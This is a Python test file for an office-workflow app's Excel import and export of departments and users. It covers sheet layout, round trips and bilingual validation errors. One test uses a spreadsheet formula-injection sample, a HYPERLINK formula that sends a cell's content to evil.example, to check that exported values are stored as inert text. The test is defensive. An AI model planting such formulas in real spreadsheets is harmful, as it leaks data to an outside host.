"""Organisation workbooks (ORG-2): layout, formula safety, every problem at once, round trips."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Mapping, Sequence

import pytest
from hypothesis import given, settings
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from oaflow.domain.errors import ValidationError
from oaflow.domain.org import Department, Organisation, User
from oaflow.domain.orgfile import parse_org_yaml
from oaflow.domain.orgfile_xlsx import LAYOUTS, org_to_xlsx, parse_org_xlsx
from oaflow.domain.text import Text
from oaflow.processes import demo_organisation

from .test_orgfile import DOC, SMALL_YAML, organisations

DEPARTMENT_HEADER = ["代码", "名称", "英文名称", "上级部门", "负责人", "接口人", "分管领导"]
USER_HEADER = ["登录名", "姓名", "英文名", "邮箱", "部门", "角色", "启用"]


def workbook(sheets: Mapping[str, Sequence[Sequence[object]]]) -> bytes:
    """A workbook with the given sheets, in order (formulas are written as formulas)."""
    book = Workbook()
    assert book.active is not None
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def problems_of(error: pytest.ExceptionInfo[ValidationError]) -> set[tuple[int | None, str]]:
    assert all(p.text("zh") and p.hint("zh") for p in error.value.problems)  # in Chinese too
    return {(p.line, p.message) for p in error.value.problems}


def sheets_of(data: bytes) -> dict[str, Worksheet]:
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: sheet for sheet in book.worksheets}


# --- writing ----------------------------------------------------------------------------


def test_export_layout() -> None:
    sheets = sheets_of(org_to_xlsx(parse_org_yaml(SMALL_YAML)))
    assert list(sheets) == ["部门 Departments", "用户 Users"]
    departments, users = sheets.values()
    header = [cell.value for cell in departments[1]]
    assert header == [
        "代码 Code",
        "名称 Name",
        "英文名称 English name",
        "上级部门 Parent",
        "负责人 Head",
        "接口人 Interface persons",
        "分管领导 Supervising leader",
    ]
    assert [c.value for c in users[1]][:3] == ["登录名 Login", "姓名 Name", "英文名 English name"]
    for sheet in (departments, users):
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.freeze_panes == "A2"
        widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFG"]
        assert all(8 <= width <= 60 for width in widths), widths
    row = ["rnd", "研发部", "R&D", "hq", "rnd.head", "rnd.staff", "gm"]
    assert [c.value for c in departments[3]] == row
    assert [c.value for c in users[4]] == [
        "rnd.staff",
        "刘洋",
        None,
        None,
        "rnd;hq",
        None,
        False,
    ]
    assert users["F2"].value == "general_manager" and users["G2"].value is True
    # widths follow the content, Chinese characters counting double
    code, leader = (departments.column_dimensions[c].width for c in "AG")
    assert code < leader, (code, leader)


def test_values_that_look_like_formulas_are_stored_as_text() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    org = Organisation(
        {"hq": Department("hq", Text("+总部", "-HQ"))},
        {"x": User("x", Text(evil, "@SUM(1+1)"), departments=("hq",))},
    )
    data = org_to_xlsx(org)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
    assert b"<f>" not in xml and b"<f " not in xml  # no cell is a formula
    sheets = sheets_of(data)
    cell = sheets["用户 Users"]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (evil, "s", True)
    assert sheets["部门 Departments"]["B2"].quotePrefix  # '+总部'
    assert not sheets["部门 Departments"]["A2"].quotePrefix  # 'hq' needs none
    assert parse_org_xlsx(data) == org


def test_numbers_and_text_stay_text() -> None:
    org = Organisation({"d1": Department("d1", Text("001", "1e5"))}, {})
    data = org_to_xlsx(org)
    assert sheets_of(data)["部门 Departments"]["B2"].data_type == "s"
    assert parse_org_xlsx(data) == org


# --- round trips ------------------------------------------------------------------------


def test_demo_organisation_round_trips_with_chinese_names() -> None:
    org = demo_organisation()
    back = parse_org_xlsx(org_to_xlsx(org), "demo.xlsx")
    assert back == org
    assert back.departments["prd"].name.zh == "生产部"
    assert back.leader_of("rnd") == "vp.tech"


def test_empty_organisation_round_trips() -> None:
    empty = Organisation({}, {})
    assert parse_org_xlsx(org_to_xlsx(empty)) == empty


@settings(max_examples=100, deadline=None)
@given(organisations())
def test_xlsx_round_trip(org: Organisation) -> None:
    assert parse_org_xlsx(org_to_xlsx(org), "export.xlsx") == org


# --- reading what people write ----------------------------------------------------------


def test_sheets_in_any_order_and_titles_in_either_language() -> None:
    data = workbook(
        {
            "说明": [["这张表不会被读取"]],
            "Users": [
                ["Name", "login", "Departments", "Active", "Roles", "邮箱"],
                ["王建国", "boss", "hq", "否", "general_manager；auditor", "boss@x.cn"],
                [None, None, None, None, None, None],
                ["员工", 10023, "hq; rnd", True, None, None],
            ],
            "部门": [
                ["名称", "code", "上级部门 / Parent", "Head 负责人", "INTERFACE PERSONS"],
                ["总部", "hq", None, "boss", "boss；10023"],
                ["研发部", "rnd", "hq", None, None],
            ],
        }
    )
    org = parse_org_xlsx(data, "org.xlsx")
    assert org.departments["hq"] == Department(
        "hq", Text("总部"), head="boss", interfaces=("boss", "10023")
    )
    assert org.users["boss"] == User(
        "boss",
        Text("王建国"),
        "boss@x.cn",
        ("hq",),
        frozenset({"general_manager", "auditor"}),
        active=False,
    )
    assert org.users["10023"].departments == ("hq", "rnd") and org.users["10023"].active


def test_every_problem_is_reported_with_sheet_and_row() -> None:
    data = workbook(
        {
            "部门": [
                DEPARTMENT_HEADER,
                ["hq", "总部"],
                ["hq", "又一个总部"],
                ["a", "甲", None, "nowhere", "ghost", "nobody", "phantom"],
                ["Bad!", "坏"],
                ["b", "乙", None, None, "=A2"],
                ["c", None, None, None, None, None, None, "多余"],
            ],
            "用户": [
                USER_HEADER,
                ["u1", "用户", None, None, "hq"],
                ["u1", "重复", None, None, "hq"],
                ["u2", "用户二", None, "not-an-address", "mars", "king", "maybe"],
            ],
        }
    )
    with pytest.raises(ValidationError) as error:
        parse_org_xlsx(data, "org.xlsx")
    assert problems_of(error) == {
        (3, "部门!3: duplicate department 'hq' (first at 部门!2)"),
        (4, "部门!4: department a: parent 'nowhere' is not a known department"),
        (4, "部门!4: department a: head 'ghost' is not a known user"),
        (4, "部门!4: department a: interface person 'nobody' is not a known user"),
        (4, "部门!4: department a: leader 'phantom' is not a known user"),
        (5, "部门!5: department: code 'Bad!' is not valid"),
        (6, "部门!6: cell E6 holds a formula"),
        (7, "部门!7: cell H7 is in a column without a title"),
        (3, "用户!3: duplicate user 'u1' (first at 用户!2)"),
        (4, "用户!4: user u2: email 'not-an-address' is not an address"),
        (4, "用户!4: user u2: unknown role 'king'"),
        (4, "用户!4: user u2: active 'maybe' is not true or false"),
        (4, "用户!4: user u2: department 'mars' is not a known department"),
    }
    assert all(p.hint() and p.file == "org.xlsx" for p in error.value.problems)


def test_header_problems() -> None:
    data = workbook(
        {
            "Departments": [["Code", "颜色", "Head"]],
            "Users": [["Login", "Name", "Login", "English name"]],
        }
    )
    with pytest.raises(ValidationError) as error:
        parse_org_xlsx(data, "org.xlsx")
    assert problems_of(error) == {
        (1, "Departments!1: header: missing columns ['名称 Name']"),
        (1, "Departments!1: header: unknown columns ['颜色']"),
        (1, "Users!1: header: columns ['登录名 Login'] appear twice"),
    }


@pytest.mark.parametrize(
    ("sheets", "message"),
    [
        ({"部门": [DEPARTMENT_HEADER]}, "no sheet named 用户 or Users"),
        ({"Sheet1": [], "用户": [USER_HEADER]}, "no sheet named 部门 or Departments"),
        (
            {"部门": [DEPARTMENT_HEADER], "Departments": [], "用户": [USER_HEADER]},
            "2 sheets named 部门 or Departments",
        ),
    ],
)
def test_sheet_problems(sheets: Mapping[str, Sequence[Sequence[object]]], message: str) -> None:
    with pytest.raises(ValidationError) as error:
        parse_org_xlsx(workbook(sheets), "org.xlsx")
    assert problems_of(error) == {(None, message)}


def test_an_empty_sheet_lacks_its_header() -> None:
    with pytest.raises(ValidationError) as error:
        parse_org_xlsx(workbook({"部门": [], "用户": [USER_HEADER]}))
    assert problems_of(error) == {(1, "部门!1: header: missing columns ['代码 Code', '名称 Name']")}


def a_zip_without_a_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "hello")
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"type,id,name_zh\n",
        b"PK\x03\x04 not really a zip",
        b"\xd0\xcf\x11\xe0 an old .xls",
        a_zip_without_a_workbook(),
    ],
)
def test_a_file_that_is_not_a_workbook(data: bytes) -> None:
    with pytest.raises(ValidationError) as error:
        parse_org_xlsx(data, "org.xlsx")
    [problem] = error.value.problems
    assert (problem.message, problem.file, problem.line) == (
        "the file is not an Excel workbook (.xlsx)",
        "org.xlsx",
        None,
    )
    assert ".xlsx" in problem.hint()


def test_the_documented_columns_are_the_exported_ones() -> None:
    rows = re.findall(r"^\| (\S+ \S+) \| (`.*) \|$", DOC.read_text(encoding="utf-8"), re.M)
    documented = {
        sheet: [documented_column(c) for c in cells.split(" · ")] for sheet, cells in rows
    }
    assert documented == {
        layout.title: [(column.key, column.title) for column in layout.columns]
        for layout in LAYOUTS
    }


def documented_column(text: str) -> tuple[str, str]:
    match = re.fullmatch(r"`(\w+)`: (.+)", text)
    assert match, text
    return match.group(1), match.group(2)
